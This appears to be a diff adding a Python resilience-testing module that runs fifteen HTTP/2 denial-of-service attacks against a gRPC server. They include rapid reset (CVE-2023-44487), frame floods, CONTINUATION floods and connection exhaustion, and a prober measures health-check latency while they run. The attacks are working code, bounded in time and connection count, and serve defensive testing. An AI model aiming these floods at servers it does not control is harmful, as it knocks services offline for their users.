@@ -1,0 +1,291 @@
+"""Attacks on an HTTP/2 gRPC server, and a healthy client probing it beside them.
+
+Each attack is what a peer on the cluster network could send to the service's gRPC port:
+floods of frames that ask work and serve nothing, rapid reset, header blocks at the limit,
+bodies in tiny frames, idle and half-sent connections, streams kept open. Each runs for a
+bounded time (and a bounded count of connections), from its own process so that it does not
+share a GIL with the prober: ``python -m devstack.h2attacks NAME HOST PORT SECONDS``.
+
+``Prober`` checks gRPC health every 20 ms and records each answer's latency, or its loss.
+The tests (tests/transport/test_attacks.py) assert that no probe is lost; ``make bench``
+(bench/attacks.py) writes down the p99 and what each attack cost the server.
+"""
+
+from __future__ import annotations
+
+import socket
+import struct
+import subprocess
+import sys
+import threading
+import time
+from typing import Callable
+
+import grpc
+import hpack
+from grpc_health.v1 import health_pb2, health_pb2_grpc
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+REQUEST = [(":method", "POST"), (":scheme", "http"), (":path", "/grpc.health.v1.Health/Check"),
+           (":authority", "attack"), ("content-type", "application/grpc"), ("te", "trailers")]
+PROBE_EVERY = 0.02
+PARALLEL = 4  # connections per flood (sendall lets go of the GIL: they do run at once)
+
+
+def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
+    """One HTTP/2 frame."""
+    return struct.pack(">I B I", (len(payload) << 8) | kind, flags, sid) + payload
+
+
+SETTINGS_ACK = frame(4, 1, 0)
+OPENING = PREFACE + frame(4, 0, 0) + SETTINGS_ACK
+
+
+def _connect(host: str, port: int) -> socket.socket:
+    sock = socket.create_connection((host, port), timeout=5)
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    return sock
+
+
+def _drain(sock: socket.socket) -> None:
+    """Read and drop what the server says (so that the attack is not slowed by our window)."""
+    def run() -> None:
+        try:
+            while sock.recv(1 << 16):
+                pass
+        except OSError:
+            pass
+    threading.Thread(target=run, daemon=True).start()
+
+
+def _repeat(host: str, port: int, seconds: float, batch: Callable[[int], bytes],
+            read: bool = True) -> None:
+    """Send ``batch(i)`` over and over on ``PARALLEL`` connections at once (a new one when the
+    server cuts one); ``batch(0)`` opens each connection's part."""
+    threads = [threading.Thread(target=_repeat_one, args=(host, port, seconds, batch, read))
+               for _ in range(PARALLEL)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+def _repeat_one(host: str, port: int, seconds: float, batch: Callable[[int], bytes],
+                read: bool) -> None:
+    deadline = time.monotonic() + seconds
+    connections = 0
+    while time.monotonic() < deadline and connections < 200:
+        connections += 1
+        try:
+            sock = _connect(host, port)
+        except OSError:
+            time.sleep(0.01)
+            continue
+        try:
+            if read:
+                _drain(sock)
+            sock.sendall(OPENING)
+            i = 0
+            while time.monotonic() < deadline:
+                sock.sendall(batch(i))
+                i += 1
+        except OSError:
+            time.sleep(0.01)  # cut: the server's answer to a flood; come back
+        finally:
+            sock.close()
+
+
+def _headers(encoder: hpack.Encoder, sid: int, extra: list | None = None,
+             end: bool = False) -> bytes:
+    block = encoder.encode(REQUEST + (extra or []))
+    return frame(1, 0x4 | (0x1 if end else 0), sid, block)
+
+
+# The request's header block as a fresh connection's first stream says it (literals that
+# enter the dynamic table), and as every later stream does (indexed): built once, so that
+# the attacker spends its time sending, not encoding.
+_ENCODER = hpack.Encoder()
+FIRST_BLOCK, LATER_BLOCK = _ENCODER.encode(REQUEST), _ENCODER.encode(REQUEST)
+
+
+def _streams(i: int, count: int, per_stream: Callable[[int], bytes]) -> bytes:
+    """Batch ``i`` of ``count`` streams on a connection: HEADERS then ``per_stream(sid)``."""
+    first = 1 + 2 * count * i
+    return b"".join(frame(1, 0x4, sid, FIRST_BLOCK if sid == 1 else LATER_BLOCK)
+                    + per_stream(sid) for sid in range(first, first + 2 * count, 2))
+
+
+def flood(frame_bytes: bytes, count: int = 1000) -> Callable[[str, int, float], None]:
+    """An attack sending ``frame_bytes`` ``count`` times per write."""
+    batch = frame_bytes * count
+    return lambda host, port, seconds: _repeat(host, port, seconds, lambda i: batch)
+
+
+def rapid_reset(host: str, port: int, seconds: float) -> None:
+    """HEADERS then RST_STREAM, stream after stream (CVE-2023-44487)."""
+    cancel = struct.pack(">I", 8)
+    _repeat(host, port, seconds,
+            lambda i: _streams(i, 200, lambda sid: frame(3, 0, sid, cancel)))
+
+
+def empty_continuations(host: str, port: int, seconds: float) -> None:
+    """A HEADERS frame without END_HEADERS, then empty CONTINUATION frames without end."""
+    empties = frame(9, 0, 1) * 1000
+    _repeat(host, port, seconds,
+            lambda i: (frame(1, 0, 1, FIRST_BLOCK) if i == 0 else b"") + empties)
+
+
+def big_header_blocks(host: str, port: int, seconds: float) -> None:
+    """Streams whose header blocks sit at the limit, each one's values new (no cache hit)."""
+    state = {"sid": 1}
+
+    def batch(i: int) -> bytes:
+        if i == 0:
+            state["sid"] = 1
+        sid = state["sid"]
+        state["sid"] = sid + 2
+        filler = [(f"x-{n}", f"{sid}-{n}-" + "v" * 900) for n in range(14)]
+        return _headers(hpack.Encoder(), sid, filler, end=True)
+    _repeat(host, port, seconds, batch)
+
+
+def _message(size: int) -> bytes:
+    return struct.pack(">BI", 0, size) + b"\xff" * size  # no protobuf: answered INTERNAL
+
+
+def _body(message: bytes, step: int) -> Callable[[int], bytes]:
+    """A stream's DATA: ``message`` in frames of ``step`` bytes, the last one ending it
+    (built once per stream id's low bits: the frames differ only in their stream id)."""
+    def data(sid: int) -> bytes:
+        return b"".join(frame(0, 0x1 if at + step >= len(message) else 0, sid,
+                              message[at:at + step]) for at in range(0, len(message), step))
+    return data
+
+
+def tiny_frames(host: str, port: int, seconds: float) -> None:
+    """A 256 KiB message in one-byte DATA frames, stream after stream."""
+    _repeat(host, port, seconds, lambda i: _streams(i, 1, _body(_message(256 << 10), 1)))
+
+
+def large_bodies(host: str, port: int, seconds: float) -> None:
+    """16 MiB messages in 16 KiB frames: legitimate, only large."""
+    _repeat(host, port, seconds, lambda i: _streams(i, 1, _body(_message(16 << 20), 16 << 10)))
+
+
+def _hold(host: str, port: int, seconds: float, count: int, opening: Callable[[], bytes],
+          ) -> None:
+    """``count`` connections, each sent ``opening()`` and then kept, silent, for ``seconds``."""
+    kept = []
+    deadline = time.monotonic() + seconds
+    for _ in range(count):
+        if time.monotonic() >= deadline:
+            break
+        try:
+            sock = _connect(host, port)
+            sock.sendall(opening())
+            kept.append(sock)
+        except OSError:
+            break  # the cap: past it the server closes what we open
+    time.sleep(max(0.0, deadline - time.monotonic()))
+    for sock in kept:
+        sock.close()
+
+
+def idle_connections(host: str, port: int, seconds: float) -> None:
+    """800 connections that never say a word."""
+    _hold(host, port, seconds, 800, lambda: b"")
+
+
+def half_frames(host: str, port: int, seconds: float) -> None:
+    """300 connections, each with a 16 KiB DATA frame sent but its last byte."""
+    _hold(host, port, seconds, 300,
+          lambda: OPENING + frame(0, 0, 1, b"\0" * (16 << 10))[:-1])
+
+
+def many_streams(host: str, port: int, seconds: float) -> None:
+    """20,000 streams opened on one connection and kept open."""
+    sock = _connect(host, port)
+    _drain(sock)
+    deadline = time.monotonic() + seconds
+    try:
+        sock.sendall(OPENING)
+        for i in range(200):
+            sock.sendall(_streams(i, 100, lambda sid: b""))
+        time.sleep(max(0.0, deadline - time.monotonic()))
+    except OSError:
+        pass
+    finally:
+        sock.close()
+
+
+def bad_messages(host: str, port: int, seconds: float) -> None:
+    """Whole requests whose message does not parse, as fast as answered."""
+    body = _message(64)
+    _repeat(host, port, seconds, lambda i: _streams(i, 50, lambda sid: frame(0, 0x1, sid, body)))
+
+
+ATTACKS: dict[str, Callable[[str, int, float], None]] = {
+    "settings-flood": flood(frame(4, 0, 0)),
+    "window-update-flood": flood(frame(8, 0, 0, struct.pack(">I", 1))),
+    "ping-flood": flood(frame(6, 0, 0, b"12345678")),
+    "priority-flood": flood(frame(2, 0, 3, struct.pack(">IB", 1, 16))),
+    "unknown-frame-flood": flood(frame(0xEE, 0, 0, b"x")),
+    "settings-many-entries": flood(frame(4, 0, 0, struct.pack(">HI", 4, 65535) * 2730), 10),
+    "empty-continuations": empty_continuations,
+    "rapid-reset": rapid_reset,
+    "big-header-blocks": big_header_blocks,
+    "tiny-frames": tiny_frames,
+    "large-bodies": large_bodies,
+    "idle-connections": idle_connections,
+    "half-frames": half_frames,
+    "many-streams": many_streams,
+    "bad-messages": bad_messages,
+}
+
+
+def launch(name: str, host: str, port: int, seconds: float) -> subprocess.Popen:
+    """Start one attack in a process of its own."""
+    return subprocess.Popen([sys.executable, "-m", "devstack.h2attacks", name, host,
+                             str(port), str(seconds)],
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
+class Prober:
+    """A healthy gRPC client checking health every 20 ms in a thread: latencies and losses."""
+
+    def __init__(self, target: str, timeout: float = 5.0) -> None:
+        self.target, self.timeout = target, timeout
+        self.latencies: list[float] = []
+        self.lost: list[str] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def __enter__(self) -> "Prober":
+        self._thread.start()
+        return self
+
+    def __exit__(self, *_exc: object) -> None:
+        self._stop.set()
+        self._thread.join(self.timeout + 5)
+
+    def _run(self) -> None:
+        with grpc.insecure_channel(self.target) as channel:
+            stub = health_pb2_grpc.HealthStub(channel)
+            stub.Check(health_pb2.HealthCheckRequest(), timeout=self.timeout)  # connected
+            while not self._stop.is_set():
+                began = time.monotonic()
+                try:
+                    stub.Check(health_pb2.HealthCheckRequest(), timeout=self.timeout)
+                    self.latencies.append(time.monotonic() - began)
+                except grpc.RpcError as exc:
+                    self.lost.append(str(exc.code()))  # type: ignore[attr-defined]
+                self._stop.wait(PROBE_EVERY)
+
+    def p99(self) -> float:
+        """The 99th percentile latency in seconds (0 without answers)."""
+        ordered = sorted(self.latencies)
+        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] if ordered else 0.0
+
+
+if __name__ == "__main__":
+    ATTACKS[sys.argv[1]](sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
